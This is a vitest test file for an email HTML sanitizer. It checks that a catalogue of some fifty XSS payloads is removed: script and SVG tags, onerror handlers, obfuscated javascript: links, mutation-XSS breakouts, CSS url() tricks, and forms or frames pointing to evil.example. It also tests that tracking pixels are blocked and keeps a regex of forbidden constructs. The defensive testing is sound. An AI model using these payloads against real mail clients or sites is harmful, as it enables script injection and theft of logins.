import { describe, expect, it } from 'vitest';
import { cleanHtml } from './clean-html.ts';

const clean = (html: string, areImagesShown = true, keepsColours = true) =>
  cleanHtml(html, {
    ...{ areImagesShown, keepsColours },
    pictures: new Map([['pic@mail', 'data:image/png;base64,AAAA']]),
  });

/** Must not occur in the output, regardless of the options. */
const evil =
  /<\/?(?:script|svg|math|iframe|object|embed|form|input|button|textarea|select|meta|base|link|style|video|audio|source|frame|frameset|template|xmp|noscript|noembed|isindex|marquee|applet|portal|dialog|picture|map|area)\b|\son\w+\s*=|javascript:|vbscript:|data:text|expression\(|url\(|@import|-moz-binding|behavior:|position:|z-index|srcset|srcdoc|poster=|background=|formaction|http-equiv|<!--|evil\.example/i;

const attacks: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script in odd case with a space': '<ScRiPt >alert(1)</sCrIpT >',
  'a script without an end': '<script>alert(1)//',
  'a script inside of a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'svg onload': '<svg/onload=alert(1)>',
  'svg with a script': '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  'svg that animates a link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  'svg use': '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'an image with slashes for spaces': '<img/src="x"/onerror=alert(1)>',
  'an image in SVG as data': '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  'a body with onload': '<body onload=alert(1)>',
  'javascript in a link': '<a href="javascript:alert(1)">a</a>',
  'javascript with entities': '<a href="&#106;avascript&#58;alert(1)">a</a>',
  'javascript with a tab': '<a href="java&#x09;script:alert(1)">a</a>',
  'javascript with a line break and a control character':
    '<a href="&#1;java\nscript:alert(1)">a</a>',
  vbscript: '<a href="vbscript:msgbox(1)">a</a>',
  'data in a link': '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  'a style sheet': '<style>@import url(https://evil.example/a.css);</style>',
  'a style without an end': '<style><img src=x onerror=alert(1)>',
  'an expression': '<div style="width: expression(alert(1))">a</div>',
  'a url in a style': '<div style="background: url(https://evil.example/p)">a</div>',
  'a url in a style, escaped': '<div style="background: \\75rl(https://evil.example/p)">a</div>',
  'a list image': '<ul style="list-style: url(https://evil.example/p)"><li>a</li></ul>',
  'a binding': '<div style="-moz-binding: url(//evil.example/x)">a</div>',
  behavior: '<div style="behavior: url(#default#time2)">a</div>',
  'an overlay': '<div style="position:fixed;top:0;left:0;z-index:99;width:100%">a</div>',
  'a comment in a style': '<div style="pos/**/ition: fixed; wi/**/dth: exp/**/ression(1)">a</div>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a base': '<base href="https://evil.example/">',
  'a form':
    '<form action="https://evil.example"><input name=password><button formaction=x>a</button></form>',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a frame with srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object':
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">',
  'a preloading link': '<link rel="preload" as="image" href="https://evil.example/p">',
  'a stylesheet link': '<link rel=stylesheet href="https://evil.example/a.css">',
  'a dns hint': '<link rel="dns-prefetch" href="//evil.example">',
  'a video with a poster':
    '<video poster="https://evil.example/p"><source src="https://evil.example/v"></video>',
  audio: '<audio src="https://evil.example/a" autoplay></audio>',
  'a background':
    '<table background="https://evil.example/p"><td background="//evil.example/p">a</td></table>',
  'a picture': '<picture><source srcset="https://evil.example/p"></picture>',
  'noscript that breaks out': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'math that breaks out':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a form in math':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  xmp: '<xmp><img src=x onerror=alert(1)></xmp>',
  'a title that breaks out': '<title><img src=x onerror=alert(1)></title>',
  'a textarea that breaks out': '<textarea><script>alert(1)</script></textarea>',
  'a conditional comment': '<!--[if IE]><script>alert(1)</script><![endif]-->',
  'a comment without an end': '<!--><img src=x onerror=alert(1)>',
  cdata: '<![CDATA[<script>alert(1)</script>]]>',
  'an attribute with a null': '<img src="x" on\0error="alert(1)">',
  'a map': '<map name=m><area href="javascript:alert(1)"></map>',
  'a dialog': '<dialog open onclose=alert(1)>a</dialog>',
};

describe('the page of a mail', () => {
  it.each(Object.entries(attacks))('is cleaned of %s', (_, html) => {
    for (const [shown, colours] of [
      [true, true],
      [false, false],
    ]) {
      const cleaned = clean(`<p>до</p>${html}`, shown, colours).html;
      expect(cleaned).not.toMatch(evil);
      expect(cleaned).toContain('до');
      // Cleaning is idempotent, so the output is parsed as intended.
      expect(clean(cleaned, shown, colours).html).toBe(cleaned);
    }
  });

  it('loads nothing remote without a request', () => {
    const remote =
      '<img src="https://pics.example/a.png" srcset="https://pics.example/b.png 2x">' +
      '<img src="//pics.example/c.png"><img src="http://pics.example/d.png">';
    expect(clean(remote, false)).toEqual({ html: '', hasRemoteImages: true });
    const { html, hasRemoteImages } = clean(remote, true);
    expect(html.match(/https:\/\/pics\.example\/[acd]\.png/g)).toHaveLength(3);
    expect(html).not.toContain('srcset');
    expect(hasRemoteImages).toBe(true);
  });

  it.each([
    ['of one pixel', 'width=1 height="1"'],
    ['without a height', 'height="0px"'],
    ['of one pixel by its style', 'style="width:1px;height:1px"'],
    ['of one pixel by an escaped style', 'style="w\\69 dth: 1PX !important"'],
    ['with a style in pieces', 'style="wid/**/th:1px; /* */ max-height : 0"'],
    ['of a fraction of a pixel', 'style="height:.5px"'],
    ['that is not displayed', 'width="200" style="display : none"'],
    ['that is not visible', 'width="200" style="visibility:hidden"'],
    ['that is transparent', 'width="200" style="opacity:0.0"'],
    ['that is clipped', 'width="200" style="clip-path: inset(100%)"'],
    ['that is shrunk', 'width="200" style="transform:scale(0)"'],
    ['far outside of the page', 'width="200" style="position:absolute;left:-9999px"'],
    ['that is hidden', 'width="200" hidden'],
  ])('never loads an image %s', (_, attributes) => {
    const { html } = clean(`<p>до</p><img src="https://count.example/p" ${attributes}>`, true);
    expect(html).toBe('<p>до</p>');
  });

  it.each([
    ['display:none', ''],
    ['max-height:0;overflow:hidden;font-size:1px', ''],
    ['opacity:0', ''],
    ['visibility:hidden', ''],
    ['height:0;overflow:hidden', ''],
    ['', 'width="1" height="1"'],
    ['width:1px', ''],
  ])('never loads an image in an element hidden by «%s»', (style, attributes) => {
    const pixel = '<img src="https://count.example/p">';
    const { html } = clean(`<p>до</p><div style="${style}" ${attributes}>${pixel}</div>`, true);
    expect(html).toBe('<p>до</p>');
  });

  it('keeps text in narrow elements, and images in wide ones', () => {
    const text = '<table><tbody><tr><td width="1" style="height:0">a</td></tr></tbody></table>';
    expect(clean(text).html).toContain('>a</td>');
    const picture =
      '<div style="width:100%"><img src="https://pics.example/a.png" width="10"></div>';
    expect(clean(picture, true).html).toContain('https://pics.example/a.png');
  });

  it('embeds inline images of the mail only', () => {
    expect(clean('<img src="cid:pic@mail" alt="Фото">', false)).toEqual({
      html: '<img alt="Фото" src="data:image/png;base64,AAAA" />',
      hasRemoteImages: false,
    });
    expect(clean('<img src="cid:pic%40mail">', false).html).toContain('base64,AAAA');
    expect(clean('<img src="cid:other"><img src="file:///etc/passwd"><img src="a.png">').html).toBe(
      '',
    );
  });

  it('opens links in a new tab without a referrer', () => {
    expect(clean('<a href="https://a.example/?b=1&amp;c" target="_top">a</a>').html).toBe(
      '<a href="https://a.example/?b=1&amp;c" target="_blank" rel="noopener noreferrer nofollow">a</a>',
    );
    expect(clean('<a href="mailto:a@b.example">a</a>').html).toContain('mailto:a@b.example');
  });

  it('keeps the markup of ordinary mails', () => {
    const table =
      '<table width="100%"><tbody><tr><td colspan="2" style="padding:4px 8px">a</td></tr></tbody></table>';
    expect(clean(table).html).toBe(table);
    expect(clean('<p style="color:#333;text-align:center">a</p>').html).toContain('color:#333');
  });

  it('drops colours on request', () => {
    const coloured =
      '<p style="color:#000;font-weight:bold" bgcolor="#fff"><font color="red">a</font></p>';
    expect(clean(coloured, true, false).html).toBe(
      '<p style="font-weight:bold"><font>a</font></p>',
    );
  });
});
